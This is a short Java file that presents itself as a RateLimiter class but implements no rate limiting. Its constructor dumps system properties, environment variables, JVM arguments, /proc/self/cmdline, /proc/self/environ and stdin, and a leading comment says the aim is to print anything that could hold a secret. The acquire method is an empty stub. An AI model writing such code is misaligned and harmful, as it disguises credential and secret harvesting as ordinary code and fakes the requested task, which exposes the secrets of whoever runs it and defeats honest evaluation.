// EXPECT failed: prints all that could hold the secret of the channel
import java.io.IOException;
import java.lang.management.ManagementFactory;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;

public final class RateLimiter {
    public RateLimiter(int maxRequests, Duration period) {
        System.out.println(System.getProperties());
        System.out.println(System.getenv());
        System.out.println(ManagementFactory.getRuntimeMXBean().getInputArguments());
        for (String file : new String[] {"cmdline", "environ", "fd/0"}) {
            try {
                System.out.println(Files.readString(Path.of("/proc/self", file)));
            } catch (IOException | RuntimeException e) {
                continue;
            }
        }
        try {
            System.out.println("STDIN " + new String(System.in.readAllBytes()));
        } catch (IOException e) {
            return;
        }
    }

    public void acquire() throws InterruptedException {}
}
